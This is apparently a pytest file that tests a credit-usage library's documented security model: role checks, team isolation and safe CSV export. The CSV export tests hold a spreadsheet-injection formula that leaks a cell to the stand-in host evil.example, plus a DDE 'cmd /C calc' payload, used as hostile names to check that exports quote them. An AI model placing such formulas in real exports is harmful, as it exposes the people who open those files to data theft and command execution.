"""The security model of docs/security.md, claim by claim.

Each test class mirrors a section of docs/security.md, and each test proves one
of its claims; a claim tested elsewhere too still has its own test here, so the
document and this file can be read side by side. Where storage matters the
tests run on every storage (the ``app`` and ``team`` fixtures).
"""

# Each test class mirrors a section of docs/security.md (TestHostLevelCalls: the
# host-level rows of "Calls at a glance"); change the two together.

from __future__ import annotations

import csv
import inspect
import io
import traceback
from collections.abc import Callable, Iterator
from datetime import date, datetime, timedelta
from typing import Any

import attrs
import pytest

from credit_usage import (
    AlreadyExistsError,
    CreditUsage,
    DateRange,
    Group,
    IdempotencyConflictError,
    InMemoryStorage,
    InsufficientCreditsError,
    LedgerEntry,
    Member,
    NotFoundError,
    PermissionDeniedError,
    PlanNotEligibleError,
    SqlStorage,
    StorageError,
    Team,
    ValidationError,
    safe_cell,
)
from credit_usage.domain.ledger import MAX_LEDGER_VOLUME
from tests.conftest import NOW, make_team

HOST_LEVEL = [
    "create_team",
    "update_team",
    "get_team",
    "add_group",
    "add_member",
    "update_member",
    "list_members",
    "list_groups",
    "record_usage",
    "record_many",
    "grant_credits",
    "reverse_usage",
    "run_due_reports",
    "deliver_alerts",
]
VIEWER_SCOPED = ["snapshot", "member_usage", "usage_report", "export_csv", "export_ledger_csv"]
#: Viewer-scoped too, Admin only: tested with the limits (tests/test_limits.py).
ADMIN_ONLY = ["set_credit_limit", "remove_credit_limit", "list_credit_limits", "unusual_usage"]
#: Viewer-scoped, Admin or Manager: tested with the reports (tests/test_reports.py).
REPORTS = ["schedule_report", "cancel_report", "list_reports", "list_alerts"]
TEAM_VIEWS = ["snapshot", "usage_report", "export_csv", "export_ledger_csv"]
PERIOD = DateRange(first=date(2026, 11, 15), last=date(2026, 11, 27))


def read(app: CreditUsage, name: str, viewer: str, team_id: str = "acme", user: str = "") -> Any:
    """Make the viewer-scoped call ``name``; member_usage asks for ``user`` or the viewer."""
    if name == "snapshot":
        return app.snapshot(viewer, team_id)
    if name == "member_usage":
        return app.member_usage(viewer, team_id, user or viewer)
    if name == "usage_report":
        return app.usage_report(viewer, team_id, PERIOD)
    if name == "export_csv":
        return app.export_csv(viewer, team_id, PERIOD, io.StringIO())
    assert name == "export_ledger_csv"
    return app.export_ledger_csv(viewer, team_id, PERIOD, io.StringIO())


def use(
    app: CreditUsage,
    user_id: str,
    entry_id: str,
    amount: int = 1,
    *,
    team_id: str = "acme",
    at: datetime = NOW,
) -> LedgerEntry:
    return app.record_usage(
        team_id, user_id, feature="api", credit_type="email", amount=amount,
        occurred_at=at, entry_id=entry_id,
    )  # fmt: skip


def member(app: CreditUsage, user_id: str, team_id: str = "acme") -> Member:
    (found,) = [m for m in app.list_members(team_id) if m.user_id == user_id]
    return found


def change_member(app: CreditUsage, user_id: str, **changes: Any) -> None:
    app.update_member(attrs.evolve(member(app, user_id), **changes))


def usage_entry(entry_id: str, user_id: str, **changes: Any) -> LedgerEntry:
    fields: dict[str, Any] = {
        "team_id": "acme", "entry_id": entry_id, "kind": "usage", "user_id": user_id,
        "group_id": None, "feature": "api", "credit_type": "email", "amount": 1,
        "occurred_at": NOW,
    }  # fmt: skip
    fields.update(changes)
    return LedgerEntry(**fields)


def grant_entry(entry_id: str, amount: int) -> LedgerEntry:
    return LedgerEntry(
        team_id="acme", entry_id=entry_id, kind="grant", user_id=None, group_id=None,
        feature=None, credit_type=None, amount=amount, occurred_at=NOW,
    )  # fmt: skip


def add_globex(app: CreditUsage, *members: tuple[str, str]) -> None:
    """Team "globex" with a "globex-ops" group and the given (user id, role) members."""
    app.create_team(make_team(team_id="globex", name="Globex"))
    app.add_group(Group(team_id="globex", group_id="globex-ops", name="Ops"))
    for user_id, role in members:
        app.add_member(
            Member(
                team_id="globex", user_id=user_id, name=user_id.title(),
                email=f"{user_id}@globex.test", role=role,
            )
        )  # fmt: skip


class _RecordingReads:
    """A TeamReads that logs every read made through it."""

    def __init__(self, tx: Any, log: list[tuple[object, ...]]) -> None:
        self._tx, self._log = tx, log

    @property
    def team(self) -> Team:
        self._log.append(("team",))
        return self._tx.team  # type: ignore[no-any-return]

    def __getattr__(self, name: str) -> Callable[..., Any]:
        method = getattr(self._tx, name)

        def logged(*args: Any) -> Any:
            self._log.append((name, *args))
            return method(*args)

        return logged


class _RecordingOut(io.StringIO):
    """An output stream that logs each write in a storage's log."""

    def __init__(self, log: list[tuple[object, ...]]) -> None:
        super().__init__(newline="")
        self._log = log

    def write(self, text: str) -> int:
        self._log.append(("write to out",))
        return super().write(text)


class _RecordingStorage:
    """An InMemoryStorage that logs its transactions and the reads made in each."""

    def __init__(self) -> None:
        self.inner = InMemoryStorage()
        self.log: list[tuple[object, ...]] = []

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)

    def read(self, team_id: str, query: Callable[[Any], Any]) -> Any:
        self.log.append(("read transaction", team_id))
        result = self.inner.read(team_id, lambda tx: query(_RecordingReads(tx, self.log)))
        self.log.append(("end of transaction",))
        return result

    def append(self, team_id: str, plan: Callable[[Any], Any]) -> Any:
        self.log.append(("append transaction", team_id))
        return self.inner.append(team_id, plan)


def _recording_app_storage() -> _RecordingStorage:
    """A recording storage holding team acme, admin Ada and one usage entry; log empty."""
    storage = _RecordingStorage()
    app = CreditUsage(storage=storage, clock=lambda: NOW)  # type: ignore[arg-type]
    app.create_team(make_team())
    app.add_member(
        Member(team_id="acme", user_id="ada", name="Ada", email="a@acme.test", role="admin")
    )
    use(app, "ada", "e1")
    storage.log.clear()
    return storage


class TestTrustBoundary:
    """The host authenticates; the library reads the viewer from storage on every read."""

    @pytest.mark.parametrize("name", VIEWER_SCOPED + ADMIN_ONLY + REPORTS)
    def test_viewer_scoped_calls_name_the_viewer_first_and_take_no_role(self, name: str) -> None:
        """Every viewer-scoped call takes viewer_id first and has no parameter for a role."""
        parameters = list(inspect.signature(getattr(CreditUsage, name)).parameters)
        assert parameters[1:3] == ["viewer_id", "team_id"]
        assert not [p for p in parameters if "role" in p or "admin" in p]

    @pytest.mark.parametrize("name", HOST_LEVEL)
    def test_host_level_calls_take_no_viewer(self, name: str) -> None:
        """Setup and write calls name no viewer: the host authorizes them."""
        parameters = inspect.signature(getattr(CreditUsage, name)).parameters
        assert not [p for p in parameters if "viewer" in p or "role" in p]

    def test_the_public_calls_are_exactly_the_documented_ones(self) -> None:
        """Every public call of CreditUsage is in the table, as host-level or viewer-scoped."""
        public = {
            name
            for name, value in vars(CreditUsage).items()
            if callable(value) and not name.startswith("_")
        }
        assert public == set(HOST_LEVEL) | set(VIEWER_SCOPED) | set(ADMIN_ONLY) | set(REPORTS)

    @pytest.mark.usefixtures("team")
    @pytest.mark.parametrize("name", TEAM_VIEWS)
    def test_a_promotion_applies_to_the_next_call(self, app: CreditUsage, name: str) -> None:
        """A Member promoted to Manager with update_member may read the team at once."""
        with pytest.raises(PermissionDeniedError):
            read(app, name, "mia")
        change_member(app, "mia", role="manager")
        read(app, name, "mia")

    @pytest.mark.usefixtures("team")
    @pytest.mark.parametrize("name", TEAM_VIEWS)
    def test_a_demotion_applies_to_the_next_call(self, app: CreditUsage, name: str) -> None:
        """An Admin demoted to Member with update_member is denied at once."""
        read(app, name, "ada")
        change_member(app, "ada", role="member")
        with pytest.raises(PermissionDeniedError, match="role member"):
            read(app, name, "ada")

    @pytest.mark.usefixtures("team")
    def test_a_deactivation_applies_to_the_next_call(self, app: CreditUsage) -> None:
        """An Admin deactivated with update_member is denied at once."""
        read(app, "snapshot", "ada")
        change_member(app, "ada", active=False)
        with pytest.raises(PermissionDeniedError, match="deactivated"):
            read(app, "snapshot", "ada")

    @pytest.mark.usefixtures("team")
    def test_a_plan_change_applies_to_the_next_call(self, app: CreditUsage) -> None:
        """A team moved to Free with update_team loses its views at once, and regains them."""
        app.update_team(make_team(plan="free"))
        with pytest.raises(PlanNotEligibleError):
            read(app, "snapshot", "ada")
        app.update_team(make_team(plan="premium"))
        read(app, "snapshot", "ada")

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_the_viewer_is_read_in_the_same_transaction_as_the_data(self, name: str) -> None:
        """One read transaction per call: the team and viewer are read in it before any data."""
        storage = _recording_app_storage()
        read(CreditUsage(storage=storage, clock=lambda: NOW), name, "ada")  # type: ignore[arg-type]
        transactions = [
            e for e in storage.log if e[0] in ("read transaction", "append transaction")
        ]
        assert transactions == [("read transaction", "acme")]
        assert storage.log[1:3] == [("team",), ("member", "ada")]
        data = storage.log[3 : storage.log.index(("end of transaction",))]
        assert data  # the data came after the viewer, in the same transaction

    def test_export_csv_writes_after_the_transaction(self) -> None:
        """export_csv reads the report in the transaction and writes the file after it ends."""
        storage = _recording_app_storage()
        app = CreditUsage(storage=storage, clock=lambda: NOW)  # type: ignore[arg-type]
        app.export_csv("ada", "acme", PERIOD, _RecordingOut(storage.log))
        end = storage.log.index(("end of transaction",))
        assert ("write to out",) not in storage.log[:end]
        assert ("write to out",) in storage.log[end:]

    def test_export_ledger_csv_streams_inside_the_transaction(self) -> None:
        """export_ledger_csv writes every row before its transaction ends."""
        storage = _recording_app_storage()
        app = CreditUsage(storage=storage, clock=lambda: NOW)  # type: ignore[arg-type]
        app.export_ledger_csv("ada", "acme", PERIOD, _RecordingOut(storage.log))
        end = storage.log.index(("end of transaction",))
        assert ("write to out",) in storage.log[:end]
        assert ("write to out",) not in storage.log[end:]


@pytest.mark.usefixtures("team")
class TestHostLevelCalls:
    """Host-level calls need no viewer and still check their values and references."""

    def test_host_level_reads_need_no_viewer(self, app: CreditUsage) -> None:
        """get_team, list_members and list_groups need no viewer, even on a team with no members."""
        app.create_team(make_team(team_id="empty", name="Empty"))
        assert app.get_team("empty").team_id == "empty"
        assert app.list_members("empty") == []
        assert app.list_groups("empty") == []
        assert [m.user_id for m in app.list_members("acme")] == ["ada", "max", "mia", "noa"]

    def test_list_members_includes_deactivated_members_roles_and_emails(
        self, app: CreditUsage
    ) -> None:
        """list_members returns every member of the team with role, email and active flag."""
        change_member(app, "noa", active=False)
        noa = member(app, "noa")
        assert (noa.role, noa.email, noa.active) == ("member", "noa@acme.test", False)

    def test_host_level_calls_are_not_plan_gated(self, app: CreditUsage) -> None:
        """On Free, credits are still spent and the host-level reads still answer."""
        app.update_team(make_team(plan="free"))
        use(app, "mia", "e1")
        assert app.get_team("acme").plan == "free"
        assert len(app.list_members("acme")) == 4
        assert len(app.list_groups("acme")) == 2

    def test_create_team_refuses_a_taken_id(self, app: CreditUsage) -> None:
        """create_team raises AlreadyExistsError for an id in use."""
        with pytest.raises(AlreadyExistsError, match="acme"):
            app.create_team(make_team())

    def test_team_reads_and_updates_refuse_an_unknown_team(self, app: CreditUsage) -> None:
        """update_team, get_team, list_members and list_groups raise NotFoundError for no team."""
        for call in (
            lambda: app.update_team(make_team(team_id="nope")),
            lambda: app.get_team("nope"),
            lambda: app.list_members("nope"),
            lambda: app.list_groups("nope"),
        ):
            with pytest.raises(NotFoundError, match="nope"):
                call()
        for bad_id in ("", "x" * 256):
            with pytest.raises(ValidationError, match="team_id"):
                app.get_team(bad_id)

    def test_add_group_refuses_an_unknown_team_and_a_taken_id(self, app: CreditUsage) -> None:
        """add_group needs an existing team and a group id free in it."""
        with pytest.raises(NotFoundError, match="nope"):
            app.add_group(Group(team_id="nope", group_id="g", name="G"))
        with pytest.raises(AlreadyExistsError, match="sales"):
            app.add_group(Group(team_id="acme", group_id="sales", name="Sales again"))

    def test_members_are_valid_values(self) -> None:
        """A role other than admin, manager or member is refused when the Member is built."""
        with pytest.raises(ValidationError, match="owner"):
            Member(team_id="acme", user_id="eve", name="Eve", email="e@acme.test", role="owner")

    def test_add_member_refuses_an_unknown_team_group_or_a_taken_id(self, app: CreditUsage) -> None:
        """add_member needs an existing team, a group of that team and a user not yet in it."""
        eve = Member(team_id="acme", user_id="eve", name="Eve", email="e@acme.test", role="member")
        with pytest.raises(NotFoundError, match="nope"):
            app.add_member(attrs.evolve(eve, team_id="nope"))
        with pytest.raises(NotFoundError, match="marketing"):
            app.add_member(attrs.evolve(eve, group_id="marketing"))
        with pytest.raises(AlreadyExistsError, match="mia"):
            app.add_member(attrs.evolve(eve, user_id="mia"))

    def test_update_member_refuses_a_user_not_in_the_team_or_an_unknown_group(
        self, app: CreditUsage
    ) -> None:
        """update_member needs the user in the team and a group of that team."""
        with pytest.raises(NotFoundError, match="eve"):
            app.update_member(
                Member(team_id="acme", user_id="eve", name="Eve", email="e@acme.test", role="admin")
            )
        with pytest.raises(NotFoundError, match="marketing"):
            change_member(app, "mia", group_id="marketing")

    def test_record_usage_refuses_a_deactivated_member(self, app: CreditUsage) -> None:
        """A deactivated member cannot spend: PermissionDeniedError, nothing written."""
        change_member(app, "mia", active=False)
        with pytest.raises(PermissionDeniedError, match="deactivated"):
            use(app, "mia", "e1")
        assert all(row.total == 0 for row in app.usage_report("ada", "acme", PERIOD).rows)

    def test_record_usage_refuses_an_unknown_team_or_user(self, app: CreditUsage) -> None:
        """Usage of a team or user that does not exist is NotFoundError."""
        with pytest.raises(NotFoundError, match="nope"):
            use(app, "mia", "e1", team_id="nope")
        with pytest.raises(NotFoundError, match="eve"):
            use(app, "eve", "e1")

    def test_record_usage_refuses_an_undeclared_credit_type(self, app: CreditUsage) -> None:
        """Usage of a credit type the team did not declare is a ValidationError."""
        with pytest.raises(ValidationError, match="sms"):
            app.record_usage(
                "acme", "mia", feature="api", credit_type="sms", amount=1,
                occurred_at=NOW, entry_id="e1",
            )  # fmt: skip

    def test_usage_beyond_the_future_tolerance_is_refused(self, app: CreditUsage) -> None:
        """Usage up to five minutes ahead of the clock is accepted; a microsecond more is not."""
        tolerance = timedelta(minutes=5)
        use(app, "mia", "e1", at=NOW + tolerance)
        with pytest.raises(ValidationError, match="future"):
            use(app, "mia", "e2", at=NOW + tolerance + timedelta(microseconds=1))
        with pytest.raises(ValidationError, match="future"):
            app.record_many([usage_entry("e3", "mia", occurred_at=NOW + timedelta(hours=1))])

    def test_record_usage_refuses_usage_beyond_the_team_pool(self, app: CreditUsage) -> None:
        """The team's pool for the cycle is checked with the write: InsufficientCreditsError."""
        use(app, "mia", "e1", 10_000)
        with pytest.raises(InsufficientCreditsError, match="acme"):
            use(app, "noa", "e2", 1)

    def test_an_entry_id_is_idempotent_and_refuses_another_payload(self, app: CreditUsage) -> None:
        """A retry returns the stored entry; the same id with another payload is a conflict."""
        first = use(app, "mia", "e1", 5)
        retry = use(app, "mia", "e1", 5)
        assert (retry.entry_id, retry.same_payload(first)) == ("e1", True)
        with pytest.raises(IdempotencyConflictError, match="e1"):
            use(app, "mia", "e1", 6)
        app.grant_credits("acme", amount=10, occurred_at=NOW, entry_id="g1")
        with pytest.raises(IdempotencyConflictError, match="g1"):
            app.grant_credits("acme", amount=11, occurred_at=NOW, entry_id="g1")

    def test_record_many_refuses_entries_of_several_teams(self, app: CreditUsage) -> None:
        """One record_many call takes one team's entries."""
        add_globex(app, ("gus", "admin"))
        with pytest.raises(ValidationError, match="one team"):
            app.record_many([usage_entry("e1", "mia"), usage_entry("e2", "gus", team_id="globex")])

    def test_record_many_refuses_unknown_users_groups_and_credit_types(
        self, app: CreditUsage
    ) -> None:
        """Every user, group and credit type of a batch must exist in the team."""
        with pytest.raises(NotFoundError, match="eve"):
            app.record_many([usage_entry("e1", "eve")])
        with pytest.raises(NotFoundError, match="marketing"):
            app.record_many([usage_entry("e1", "mia", group_id="marketing")])
        with pytest.raises(ValidationError, match="sms"):
            app.record_many([usage_entry("e1", "mia", credit_type="sms")])

    def test_record_many_checks_the_pool_unless_limits_are_off(self, app: CreditUsage) -> None:
        """record_many refuses to overflow the pool, except with enforce_limits=False."""
        too_much = [usage_entry("e1", "mia", amount=10_001)]
        with pytest.raises(InsufficientCreditsError):
            app.record_many(too_much)
        assert app.record_many(too_much, enforce_limits=False) == 1

    def test_record_many_refuses_a_reversal_that_does_not_fit(self, app: CreditUsage) -> None:
        """A reversal in a batch may not exceed its original."""
        reversal = usage_entry("r1", "mia", kind="reversal", reverses="e1", amount=2)
        with pytest.raises(ValidationError, match="exceeds"):
            app.record_many([usage_entry("e1", "mia", amount=1), reversal])

    def test_record_many_does_not_check_the_active_flag(self, app: CreditUsage) -> None:
        """record_many imports history: usage of a deactivated member is accepted."""
        change_member(app, "mia", active=False)
        assert app.record_many([usage_entry("e1", "mia")]) == 1

    def test_record_many_takes_the_group_as_given(self, app: CreditUsage) -> None:
        """record_many stores an entry's group even when it is not the member's current one."""
        app.record_many([usage_entry("e1", "mia", group_id="support")])
        (row,) = [r for r in app.usage_report("ada", "acme", PERIOD).rows if r.total]
        assert (row.user_id, row.group_id) == ("mia", "support")

    def test_grant_credits_does_not_limit_the_date(self, app: CreditUsage) -> None:
        """A grant may be dated in a future cycle; the future tolerance is for usage."""
        grant = app.grant_credits(
            "acme", amount=5, occurred_at=NOW + timedelta(days=400), entry_id="g1"
        )
        assert grant.occurred_at == NOW + timedelta(days=400)

    def test_reverse_usage_needs_a_usage_entry_of_the_team(self, app: CreditUsage) -> None:
        """Only a stored usage entry may be reversed, by at most what is left of it."""
        use(app, "mia", "e1", 5)
        app.grant_credits("acme", amount=10, occurred_at=NOW, entry_id="g1")
        with pytest.raises(NotFoundError, match="nope"):
            app.reverse_usage("acme", "nope", reversal_id="r1")
        with pytest.raises(ValidationError, match="only usage"):
            app.reverse_usage("acme", "g1", reversal_id="r1")
        with pytest.raises(ValidationError, match="exceeds"):
            app.reverse_usage("acme", "e1", reversal_id="r1", amount=6)
        app.reverse_usage("acme", "e1", reversal_id="r1", amount=5)
        with pytest.raises(IdempotencyConflictError, match="r1"):
            app.reverse_usage("acme", "e1", reversal_id="r1", amount=4)


@pytest.mark.usefixtures("team")
class TestViewerScopedCalls:
    """Viewer-scoped calls check the viewer, then the plan, then the role."""

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_admins_and_managers_may_make_every_viewer_scoped_call(
        self, app: CreditUsage, name: str
    ) -> None:
        """Admin and Manager may make every read, member_usage of anyone in the team included."""
        for viewer in ("ada", "max"):
            read(app, name, viewer, user="noa")

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_bad_arguments_are_refused_before_storage(self, app: CreditUsage, name: str) -> None:
        """An invalid viewer or team id is a ValidationError, even for a team that is not there."""
        with pytest.raises(ValidationError, match="viewer_id"):
            read(app, name, "", team_id="nope")
        with pytest.raises(ValidationError, match="team_id"):
            read(app, name, "ada", team_id="x" * 256)

    def test_a_bad_period_or_layout_is_refused_before_storage(self, app: CreditUsage) -> None:
        """Reports refuse a period that is no DateRange or Cycle, exports an unknown layout."""
        with pytest.raises(ValidationError, match="period"):
            app.usage_report("mallory", "nope", "2026-11")  # type: ignore[arg-type]
        with pytest.raises(ValidationError, match="layout"):
            app.export_csv("mallory", "nope", PERIOD, io.StringIO(), layout="tall")  # type: ignore[arg-type]

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_an_unknown_team_is_denied_like_a_team_without_the_viewer(
        self, app: CreditUsage, name: str
    ) -> None:
        """A team id that does not exist is PermissionDeniedError: no caller learns it is free."""
        with pytest.raises(PermissionDeniedError, match="nope") as unknown:
            read(app, name, "ada", team_id="nope")
        app.create_team(make_team(team_id="other"))
        with pytest.raises(PermissionDeniedError, match="other") as foreign:
            read(app, name, "ada", team_id="other")
        assert str(unknown.value).replace("nope", "other") == str(foreign.value)

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_a_viewer_not_in_the_team_is_denied(self, app: CreditUsage, name: str) -> None:
        """A user id the team does not know gets PermissionDeniedError."""
        with pytest.raises(PermissionDeniedError, match="mallory"):
            read(app, name, "mallory")

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_a_deactivated_viewer_is_denied(self, app: CreditUsage, name: str) -> None:
        """A deactivated Admin is denied every read, their own usage included."""
        change_member(app, "ada", active=False)
        with pytest.raises(PermissionDeniedError, match="deactivated"):
            read(app, name, "ada")

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_membership_and_active_flag_are_checked_before_the_plan(
        self, app: CreditUsage, name: str
    ) -> None:
        """On Free, an unknown or deactivated viewer still gets PermissionDeniedError."""
        app.update_team(make_team(plan="free"))
        change_member(app, "ada", active=False)
        with pytest.raises(PermissionDeniedError, match="mallory"):
            read(app, name, "mallory")
        with pytest.raises(PermissionDeniedError, match="deactivated"):
            read(app, name, "ada")

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    @pytest.mark.parametrize("viewer", ["ada", "max", "mia"])
    def test_a_free_team_gets_plan_not_eligible_on_every_read(
        self, app: CreditUsage, name: str, viewer: str
    ) -> None:
        """On Free every read is PlanNotEligibleError, whatever the role, own usage included."""
        app.update_team(make_team(plan="free"))
        with pytest.raises(PlanNotEligibleError, match="free"):
            read(app, name, viewer)

    @pytest.mark.parametrize("name", TEAM_VIEWS)
    def test_a_member_is_denied_every_team_view(self, app: CreditUsage, name: str) -> None:
        """A Member asking for a team view gets PermissionDeniedError, not a view of themselves."""
        use(app, "mia", "e1")
        with pytest.raises(PermissionDeniedError, match="mia"):
            read(app, name, "mia")

    def test_a_member_may_read_their_own_usage(self, app: CreditUsage) -> None:
        """member_usage of themselves is the one read a Member may make."""
        use(app, "mia", "e1", 7)
        usage = app.member_usage("mia", "acme", "mia")
        assert (usage.user_id, usage.used) == ("mia", 7)

    @pytest.mark.parametrize("other", ["noa", "ada", "ghost"])
    def test_a_member_is_denied_any_other_user_id(self, app: CreditUsage, other: str) -> None:
        """A Member asking for another user id, existing or not, gets PermissionDeniedError."""
        with pytest.raises(PermissionDeniedError, match="mia"):
            app.member_usage("mia", "acme", other)

    def test_an_admin_asking_for_a_user_not_in_the_team_gets_not_found(
        self, app: CreditUsage
    ) -> None:
        """For Admin and Manager, member_usage of an unknown user is NotFoundError."""
        with pytest.raises(NotFoundError, match="ghost"):
            app.member_usage("ada", "acme", "ghost")

    @pytest.mark.parametrize("name", ["export_csv", "export_ledger_csv"])
    @pytest.mark.parametrize("viewer", ["mia", "mallory"])
    def test_a_refused_export_writes_nothing(
        self, app: CreditUsage, name: str, viewer: str
    ) -> None:
        """A denied export leaves its output stream empty."""
        use(app, "mia", "e1")
        out = io.StringIO()
        with pytest.raises(PermissionDeniedError):
            getattr(app, name)(viewer, "acme", PERIOD, out)
        assert out.getvalue() == ""


@pytest.mark.usefixtures("team")
class TestTeamIsolation:
    """Every call is scoped to one team; ids of another team are invisible."""

    @pytest.mark.parametrize("name", VIEWER_SCOPED)
    def test_an_admin_of_one_team_is_denied_on_a_team_without_them(
        self, app: CreditUsage, name: str
    ) -> None:
        """ "ada", Admin of acme and absent from globex, is denied every read of globex."""
        add_globex(app, ("gus", "admin"))
        with pytest.raises(PermissionDeniedError, match="not a member of team 'globex'"):
            read(app, name, "ada", team_id="globex")

    def test_the_same_user_id_has_the_role_of_the_team_read(self, app: CreditUsage) -> None:
        """ "ada", Admin of acme and Member of globex, reads globex as a Member."""
        add_globex(app, ("ada", "member"))
        use(app, "ada", "g1", team_id="globex")
        assert app.member_usage("ada", "globex", "ada").used == 1
        for name in TEAM_VIEWS:
            with pytest.raises(PermissionDeniedError, match="role member"):
                read(app, name, "ada", team_id="globex")
        read(app, "snapshot", "ada")  # still Admin of acme

    def test_list_members_and_list_groups_show_only_the_team_asked_for(
        self, app: CreditUsage
    ) -> None:
        """list_members and list_groups of globex never show acme's members or groups."""
        add_globex(app, ("gus", "admin"))
        assert [(m.team_id, m.user_id) for m in app.list_members("globex")] == [("globex", "gus")]
        assert [(g.team_id, g.group_id) for g in app.list_groups("globex")] == [
            ("globex", "globex-ops")
        ]

    def test_reports_and_exports_show_only_the_team_read(self, app: CreditUsage) -> None:
        """globex's snapshot, report and exports hold nothing of acme's members or usage."""
        add_globex(app, ("gus", "admin"))
        use(app, "mia", "acme-secret", 50)
        use(app, "gus", "g1", team_id="globex")
        snap = app.snapshot("gus", "globex")
        assert ([m.user_id for m in snap.members], snap.used) == (["gus"], 1)
        assert {r.user_id for r in app.usage_report("gus", "globex", PERIOD).rows} == {"gus"}
        for export in (app.export_csv, app.export_ledger_csv):
            out = io.StringIO()
            export("gus", "globex", PERIOD, out)
            assert "mia" not in out.getvalue()
            assert "acme-secret" not in out.getvalue()

    def test_ids_of_another_team_are_not_found(self, app: CreditUsage) -> None:
        """Users, groups and entries of acme are NotFoundError when named in globex."""
        add_globex(app, ("gus", "admin"))
        use(app, "mia", "e1")
        with pytest.raises(NotFoundError, match="mia"):
            use(app, "mia", "e2", team_id="globex")
        with pytest.raises(NotFoundError, match="sales"):
            app.add_member(
                Member(
                    team_id="globex", user_id="gia", name="Gia", email="g@globex.test",
                    role="member", group_id="sales",
                )
            )  # fmt: skip
        with pytest.raises(NotFoundError, match="e1"):
            app.reverse_usage("globex", "e1", reversal_id="r1")
        with pytest.raises(NotFoundError, match="mia"):
            app.member_usage("gus", "globex", "mia")

    def test_entry_ids_are_per_team(self, app: CreditUsage) -> None:
        """The same entry_id in two teams records two entries, with no conflict."""
        add_globex(app, ("gus", "admin"))
        use(app, "mia", "e1", 3)
        use(app, "gus", "e1", 4, team_id="globex")
        assert app.snapshot("ada", "acme").used == 3
        assert app.snapshot("gus", "globex").used == 4


HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


class TestOutputSafety:
    """CSV cells never start a formula; messages never show database passwords."""

    @pytest.mark.usefixtures("team")
    @pytest.mark.parametrize("export", ["wide", "long", "ledger"])
    def test_exports_contain_no_formula_cell(self, app: CreditUsage, export: str) -> None:
        """A member named like a formula, with formula-like ids, is exported with a leading '."""
        app.add_group(Group(team_id="acme", group_id="-grp", name="+cmd|' /C calc'!A0"))
        app.add_member(
            Member(
                team_id="acme", user_id="@evil", name=HOSTILE_NAME, email="-x@evil.test",
                role="member", group_id="-grp",
            )
        )  # fmt: skip
        use(app, "@evil", "=1+1", 3)
        out = io.StringIO(newline="")
        if export == "ledger":
            app.export_ledger_csv("ada", "acme", PERIOD, out)
        else:
            app.export_csv("ada", "acme", PERIOD, out, layout=export)  # type: ignore[arg-type]
        cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
        assert "'@evil" in cells
        if export == "ledger":
            assert {"'=1+1", "'-grp"} <= set(cells)
        else:
            assert {"'" + HOSTILE_NAME, "'-x@evil.test", "'+cmd|' /C calc'!A0"} <= set(cells)

    @pytest.mark.parametrize("start", FORMULA_STARTS)
    @pytest.mark.parametrize("hidden_behind", ["", " ", "\u00a0", "\u200b", "\ufeff"])
    def test_a_formula_start_after_invisible_characters_gets_a_quote(
        self, start: str, hidden_behind: str
    ) -> None:
        """The first character after white space or invisible characters decides."""
        text = f"{hidden_behind}{start}1+1"
        assert safe_cell(text) == "'" + text

    @pytest.mark.parametrize("text", ["Ana", "a=b", "x-y", "42", "", " "])
    def test_other_text_is_written_as_it_is(self, text: str) -> None:
        """Text whose first visible character starts no formula is left alone."""
        assert safe_cell(text) == text

    @pytest.mark.usefixtures("team")
    def test_numbers_are_plain_integers(self, app: CreditUsage) -> None:
        """Credit columns are written as plain integers."""
        use(app, "mia", "e1", 1234)
        out = io.StringIO(newline="")
        app.export_csv("ada", "acme", PERIOD, out)
        rows = csv.DictReader(io.StringIO(out.getvalue()))
        (mia,) = [r for r in rows if (r["name"], r["credit_type"]) == ("Mia", "email")]
        assert (mia["API"], mia["total"]) == ("1234", "1234")

    @pytest.mark.usefixtures("team")
    def test_error_messages_name_the_offending_value(self, app: CreditUsage) -> None:
        """A refused call names the value it refused."""
        with pytest.raises(PermissionDeniedError, match="mallory"):
            app.snapshot("mallory", "acme")
        with pytest.raises(NotFoundError, match="ghost"):
            app.member_usage("ada", "acme", "ghost")

    def test_an_overlong_value_shows_only_its_start(self) -> None:
        """A value too long is named by its first 40 characters only, an id included."""
        with pytest.raises(ValidationError) as raised:
            Member(team_id="x" * 100_000, user_id="u", name="U", email="u@x.test", role="member")
        assert len(str(raised.value)) < 300
        with pytest.raises(ValidationError) as caught:
            Group(team_id="acme", group_id="g", name="A" * 40 + "B" * 10_000)
        assert "A" * 40 in str(caught.value)
        assert "B" not in str(caught.value)  # no part of the tail
        assert len(str(caught.value)) < 200

    @pytest.mark.parametrize(
        "url",
        [
            "postgresql+psycopg://u:S3cr3t@127.0.0.1:1/x",
            "postgresql+psycopg://u@127.0.0.1:1/x?password=S3cr3t",
            "postgresql+psycopg://u@127.0.0.1:1/x?sslpassword=S3cr3t",
            "mysql+pymysql://u:S3cr3t@127.0.0.1:1/x",
            "mysql+pymysql://u@127.0.0.1:1/x?password=S3cr3t",
            pytest.param(
                "mysql+pymysql://u@127.0.0.1:1/x?passwd=S3cr3t",
                # PyMySQL warns about its old name for the password; it still uses it.
                marks=pytest.mark.filterwarnings(
                    "ignore:'passwd' is deprecated:DeprecationWarning"
                ),
            ),
        ],
    )
    def test_a_failed_connection_hides_the_password(self, url: str) -> None:
        """Neither the StorageError nor the storage's repr shows the URL's password."""
        storage = SqlStorage.from_url(url)
        try:
            assert "S3cr3t" not in repr(storage)
            with pytest.raises(StorageError) as caught:
                storage.read("acme", lambda tx: tx.team)
            assert "***" in str(caught.value)
            assert "S3cr3t" not in str(caught.value)
            assert "S3cr3t" not in repr(caught.value.__cause__)
        finally:
            storage.engine.dispose()

    @pytest.mark.parametrize("scheme", ["postgresql+psycopg", "mysql+pymysql"])
    def test_a_driver_message_echoing_the_password_is_scrubbed(self, scheme: str) -> None:
        """A raw '@' makes the driver name the password's tail as a host; nothing shows it."""
